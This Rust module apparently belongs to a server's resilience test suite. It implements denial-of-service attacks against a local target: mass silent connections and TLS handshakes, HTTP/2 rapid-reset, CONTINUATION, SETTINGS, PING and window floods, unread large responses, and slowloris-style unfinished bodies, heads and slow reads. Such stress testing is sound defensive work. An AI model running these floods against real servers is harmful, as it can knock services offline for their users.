//! Attacks by connections, frames and bytes, on whatever listens.

use std::fs;
use std::io::{Read, Write};
use std::net::SocketAddr;
use std::sync::Mutex;
use std::thread;
use std::time::{Duration, Instant};

use portcullis_testkit::http2::{
    CONTINUATION, END_HEADERS, END_STREAM, HEADERS, NEWEST, PING, RESET, SETTINGS, WINDOW, begin, frame,
    indexed, request,
};
use portcullis_testkit::https::{Identity, Raw, raw};
use portcullis_testkit::process::raise_open_files;
use tokio::net::TcpSocket;

use crate::honest::Target;

/// The address of the attacker: honest clients have another one.
const ATTACKER: &str = "127.0.0.66:0";
/// How long an attack lasts at least.
pub(crate) const LONG: Duration = Duration::from_secs(4);

/// Repeats a round of an attack on some threads for a while. A connection that the server closes is a round's end.
pub(crate) fn repeat(threads: usize, round: impl Fn() + Sync) {
    let end = Instant::now() + LONG;
    thread::scope(|scope| {
        for _ in 0..threads {
            scope.spawn(|| {
                while Instant::now() < end {
                    round();
                }
            });
        }
    });
}

/// Opens a connection; none if the server closes it before it is open.
pub(crate) fn open(address: SocketAddr, identity: &Identity, protocol: &str) -> Option<Raw> {
    raw(address, ATTACKER.parse().unwrap(), identity, protocol).ok()
}

/// An attack of some seconds.
pub(crate) struct Attack {
    pub(crate) name: String,
    pub(crate) run: Box<dyn Fn() + Send + Sync>,
}

fn attack(name: impl Into<String>, run: impl Fn() + Send + Sync + 'static) -> Attack {
    Attack { name: name.into(), run: Box::new(run) }
}

/// Connections by the thousand that say nothing, and TLS handshakes as fast as they go, from one address.
pub(crate) fn silent_connections(target: &dyn Target) -> Vec<Attack> {
    let most = raise_open_files().saturating_sub(500);
    let (address, anonymous) = (target.address(), target.anonymous());
    let silent = move || {
        // Other clients of this process have connections as well.
        let open = fs::read_dir("/proc/self/fd").unwrap().count();
        let count = 20_000.min(most.saturating_sub(open));
        let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
        let _entered = runtime.enter();
        let silent = || {
            let socket = TcpSocket::new_v4().unwrap();
            socket.bind(ATTACKER.parse().unwrap()).ok()?;
            runtime.block_on(socket.connect(address)).ok()
        };
        let held: Vec<_> = (0..count).filter_map(|_| silent()).collect();
        thread::sleep(Duration::from_secs(2));
        assert!(held.len() > count / 2, "{}", held.len());
    };
    let handshakes = move || {
        let held = Mutex::new(Vec::new());
        repeat(4, || {
            let opened = open(address, &anonymous, "http/1.1");
            let mut held = held.lock().unwrap();
            held.extend(opened);
            if held.len() > 4000 {
                held.clear();
            }
        });
    };
    vec![attack("silent connections", silent), attack("TLS handshakes", handshakes)]
}

/// Requests over HTTP/2 without an end, with headers that grow by their index.
pub(crate) fn growing_headers(
    target: &dyn Target,
    path: &str,
    who: &str,
    identity: &Identity,
) -> Vec<Attack> {
    // One header of four kilobytes, and fifteen times its index, in each of a thousand requests without an end.
    let first = [request("POST", path), indexed("a", &"x".repeat(3900))].concat();
    let more = [request("POST", path), vec![NEWEST; 15]].concat();
    let mut flood = [begin(), frame(HEADERS, END_HEADERS, 1, &first)].concat();
    for stream in (3..2000).step_by(2) {
        flood.extend(frame(HEADERS, END_HEADERS, stream, &more));
    }
    // The same in headers that do not end.
    let endless = [begin(), frame(HEADERS, 0, 1, &first), frame(CONTINUATION, 0, 1, &[NEWEST; 15])].concat();
    let address = target.address();
    let holding = |what: &str, bytes: Vec<u8>| {
        let identity = identity.clone();
        attack(format!("unfinished {what} of {who}"), move || {
            let held = Mutex::new(Vec::new());
            repeat(2, || {
                let Some(mut raw) = open(address, &identity, "h2") else { return };
                let _ = raw.write_all(&bytes);
                held.lock().unwrap().push(raw);
            });
        })
    };
    vec![holding("requests", flood), holding("headers", endless)]
}

/// Frames that cost the client less than the server.
pub(crate) fn floods_of_frames(target: &dyn Target, path: &str, identity: &Identity) -> Vec<Attack> {
    let get = request("GET", path);
    let mut resets = begin();
    for stream in (1..20_000).step_by(2) {
        resets.extend(frame(HEADERS, END_STREAM | END_HEADERS, stream, &get));
        resets.extend(frame(RESET, 0, stream, &[0, 0, 0, 8]));
    }
    let many = |kind: u8, payload: &[u8]| [begin(), frame(kind, 0, 0, payload).repeat(20_000)].concat();
    let more = |payload: &[u8]| {
        [begin(), frame(HEADERS, 0, 1, &get), frame(CONTINUATION, 0, 1, payload).repeat(20_000)].concat()
    };
    let address = target.address();
    let flood = |(name, bytes): (&str, Vec<u8>)| {
        let identity = identity.clone();
        attack(name, move || {
            repeat(2, || {
                let Some(mut raw) = open(address, &identity, "h2") else { return };
                let _ = raw.write_all(&bytes);
            });
        })
    };
    let floods = [
        ("resets", resets),
        ("settings", many(SETTINGS, &[])),
        ("pings", many(PING, &[0; 8])),
        ("windows", many(WINDOW, &[0, 0, 0, 1])),
        ("continuations", more(&indexed("a", "b"))),
        ("empty continuations", more(&[])),
    ];
    floods.into_iter().map(flood).collect()
}

/// Long answers to many requests over one HTTP/2 connection, with the largest window, of which nothing is read.
pub(crate) fn unread_answers(target: &dyn Target, name: &str, headers: &[u8], identity: &Identity) -> Attack {
    // A window of two gigabytes for each stream and for the connection.
    let settings = [&[0, 4][..], &0x7fff_ffff_u32.to_be_bytes()].concat();
    let mut bytes = [begin(), frame(SETTINGS, 0, 0, &settings)].concat();
    bytes.extend(frame(WINDOW, 0, 0, &0x7fff_0000_u32.to_be_bytes()));
    for stream in (1..800).step_by(2) {
        bytes.extend(frame(HEADERS, END_STREAM | END_HEADERS, stream, headers));
    }
    let (address, identity) = (target.address(), identity.clone());
    attack(name, move || {
        let mut unread = open(address, &identity, "h2").unwrap();
        let _ = unread.write_all(&bytes);
        thread::sleep(LONG);
    })
}

/// Bodies that are announced and do not arrive, or of which the end does not arrive.
pub(crate) fn unfinished_bodies(target: &dyn Target, path: &str, identity: &Identity) -> Vec<Attack> {
    let head = format!(
        "POST {path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n\
         Content-Length: 3000000\r\n\r\n{{"
    );
    let almost = [head.as_bytes(), &vec![b' '; 2_900_000]].concat();
    let holding = |name: &str, count: usize, bytes: Vec<u8>| {
        let (address, identity) = (target.address(), identity.clone());
        attack(name, move || {
            let mut held = Vec::new();
            for _ in 0..count {
                let mut raw = open(address, &identity, "http/1.1").unwrap();
                let _ = raw.write_all(&bytes);
                held.push(raw);
            }
            thread::sleep(LONG);
        })
    };
    vec![
        holding("500 unfinished bodies", 500, head.into_bytes()),
        holding("bodies of almost three megabytes", 60, almost),
    ]
}

/// Heads of almost the largest size, without an end.
pub(crate) fn unfinished_heads(target: &dyn Target, path: &str) -> Attack {
    let (address, anonymous) = (target.address(), target.anonymous());
    let head = format!("GET {path} HTTP/1.1\r\nHost: x\r\nX-Long: {}", "x".repeat(60_000));
    attack("unfinished heads", move || {
        let held = Mutex::new(Vec::new());
        repeat(2, || {
            let Some(mut raw) = open(address, &anonymous, "http/1.1") else { return };
            let _ = raw.write_all(head.as_bytes());
            held.lock().unwrap().push(raw);
        });
    })
}

/// Requests over many connections whose answers are read byte by byte.
pub(crate) fn slow_readers(target: &dyn Target, path: &str, identity: &Identity) -> Attack {
    let (address, identity) = (target.address(), identity.clone());
    let many = format!("GET {path} HTTP/1.1\r\nHost: x\r\n\r\n").repeat(20);
    attack("slow readers", move || {
        let mut held = Vec::new();
        for _ in 0..200 {
            let mut raw = open(address, &identity, "http/1.1").unwrap();
            raw.write_all(many.as_bytes()).unwrap();
            held.push(raw);
        }
        // So long that there are hundreds of honest requests, of which a hundredth may be slow.
        for _ in 0..8 {
            for raw in &mut held {
                let _ = raw.read(&mut [0]);
            }
            thread::sleep(Duration::from_secs(1));
        }
    })
}
